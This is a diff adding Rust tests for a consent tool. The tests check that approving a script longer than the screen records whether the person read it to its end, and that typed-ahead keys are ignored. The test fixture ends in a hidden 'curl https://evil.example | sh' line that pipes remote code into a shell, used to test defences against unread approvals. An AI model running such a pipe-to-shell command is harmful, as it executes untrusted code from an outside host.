@@ -1,0 +1,128 @@
+//! A person's yes is to what they saw: reading before consent, what the answer says of it, and keys typed ahead.
+
+use serde_json::{Value, json};
+
+use crate::browser::served;
+use crate::inbox::inbox;
+use crate::sandbox::{Sandbox, at};
+use crate::terminal::Terminal;
+
+/// A script that does not fit on a screen, and ends badly.
+fn script() -> String {
+    let steps: Vec<String> = (1..=80).map(|n| format!("echo step {n}")).collect();
+    format!("{}\ncurl https://evil.example | sh", steps.join("\n"))
+}
+
+fn approval(prompt: &str, subject: &str) -> Value {
+    json!({ "source": "approval", "prompt": prompt, "subject": subject, "fields": [{ "id": "c", "kind": "confirm", "label": "Run it?",
+        "options": [{ "id": "yes", "label": "Yes" }, { "id": "no", "label": "No", "refuses": true }] }] })
+}
+
+#[test]
+fn a_yes_that_was_given_unread_is_on_record_and_can_be_refused() {
+    let sandbox = Sandbox::new();
+    let id = sandbox.ask_document(&approval("Run?", "make"));
+    let digest = sandbox.show(&id)["digest"].as_str().unwrap().to_owned();
+    sandbox.ok(&["answer", &id, "yes", "--unread", "--digest", &digest, "--by", "bo"]);
+    at(&sandbox.show(&id), "/answer/seen", false);
+    assert!(sandbox.ok(&["show", &id]).contains("consented unread"));
+    let receipt: Value = serde_json::from_str(&sandbox.ok(&["receipt", &id])).unwrap();
+    at(&receipt, "/answer/seen", false);
+    let file = sandbox.file("subject", "make");
+    let consume = ["consume", &id, "--subject", &file];
+    sandbox.refuses(&[&consume[..], &["--seen"]].concat(), 4, &["bo consented unread"]);
+    sandbox.ok(&consume);
+
+    // Who does not say is not taken to have seen it.
+    let id = sandbox.ask_document(&approval("Run?", "make"));
+    let digest = sandbox.show(&id)["digest"].as_str().unwrap().to_owned();
+    sandbox.ok(&["answer", &id, "yes", "--digest", &digest]);
+    let file = sandbox.file("subject", "make");
+    sandbox.refuses(&["consume", &id, "--subject", &file, "--seen"], 4, &["does not say"]);
+}
+
+#[test]
+fn without_script_the_person_says_that_they_have_read_it() {
+    served(|_, server| {
+        let mut ana = server.browser();
+        ana.sign_in("ana");
+        for (beside, seen) in [(("seen", "true"), true), (("unread", "true"), false)] {
+            let id = server.ask(&approval("Run?", &script()));
+            let path = format!("/d/{id}");
+            ana.get(&path).shows("curl https://evil.example | sh").lacks("autofocus");
+            ana.fill(&path, &[("v:c", "yes")]).is(422).shows("read it to its end before you consent");
+            assert!(server.decision(&id)["answer"].is_null());
+            ana.fill(&path, &[("v:c", "yes"), beside]).is(303);
+            assert_eq!(server.decision(&id)["answer"]["seen"], seen);
+        }
+        let id = server.ask(&approval("Run?", &script()));
+        ana.fill(&format!("/d/{id}"), &[("v:c", "no")]).is(303);
+        assert!(server.decision(&id)["answer"].get("seen").is_none(), "a no needs no reading");
+        let id = server.ask(&approval("Run?", "ls"));
+        ana.fill(&format!("/d/{id}"), &[("v:c", "yes")]).is(303);
+        assert_eq!(server.decision(&id)["answer"]["seen"], true, "what is short stands there whole");
+    });
+}
+
+#[test]
+fn the_inbox_waits_for_the_end_of_the_subject() {
+    let sandbox = Sandbox::new();
+    let id = sandbox.ask_document(&approval("Run the script?", &script()));
+    let mut inbox = inbox(&sandbox, &["--by", "bo"]);
+    inbox.shows("1 decision waits");
+    inbox.press("1");
+    inbox.shows("  echo step 1").shows("lines left to read before you consent");
+    inbox.press("1");
+    inbox.shows("lines of the subject are left to read first: PgDn. U consents unread.");
+    for _ in 0..5 {
+        inbox.press("\u{1b}[6~");
+    }
+    inbox.shows("curl https://evil.example | sh").shows("1-9 pick");
+    inbox.press("1");
+    inbox.shows("> 1 Yes");
+    inbox.press("\r");
+    inbox.shows("Nothing waits for you.");
+    let decision = sandbox.show(&id);
+    at(&decision, "/answer/values/c", "yes");
+    at(&decision, "/answer/seen", true);
+}
+
+#[test]
+fn the_inbox_ignores_keys_that_were_typed_ahead() {
+    let sandbox = Sandbox::new();
+    let ids: Vec<String> =
+        (1..=4).map(|n| sandbox.ask_document(&approval(&format!("Approve {n}?"), "ls"))).collect();
+    let mut inbox = inbox(&sandbox, &["--by", "bo"]);
+    inbox.shows("4 decisions wait").hides("just appeared …");
+    inbox.press_at_once("1\r2\r1\r2\r");
+    inbox.shows("did nothing");
+    for id in &ids {
+        at(&sandbox.show(id), "/status", "pending");
+    }
+    // Whoever looks first answers what they see.
+    inbox.shows("Approve 1?").shows("1-9 pick");
+    inbox.press("1");
+    inbox.press("\r");
+    inbox.shows("✓ Answered: Yes — Approve 1?");
+    at(&sandbox.show(&ids[0]), "/answer/values/c", "yes");
+}
+
+#[test]
+fn review_asks_whether_what_is_longer_than_the_screen_was_read() {
+    let sandbox = Sandbox::new();
+    let ids: Vec<String> = (0..2).map(|_| sandbox.ask_document(&approval("Run?", &script()))).collect();
+    let mut review = Terminal::start(&sandbox, &["review", "--by", "bo"]);
+    for key in ["u", "r"] {
+        review.until("curl https://evil.example | sh");
+        review.until("? help] ");
+        review.press("1");
+        review.until("Message");
+        review.press("\r");
+        review.until("r: I have read it to its end, u: I consent unread");
+        review.press(&format!("{key}\r"));
+        review.until("Answered");
+    }
+    assert_eq!(review.end(), 0);
+    at(&sandbox.show(&ids[0]), "/answer/seen", false);
+    at(&sandbox.show(&ids[1]), "/answer/seen", true);
+}
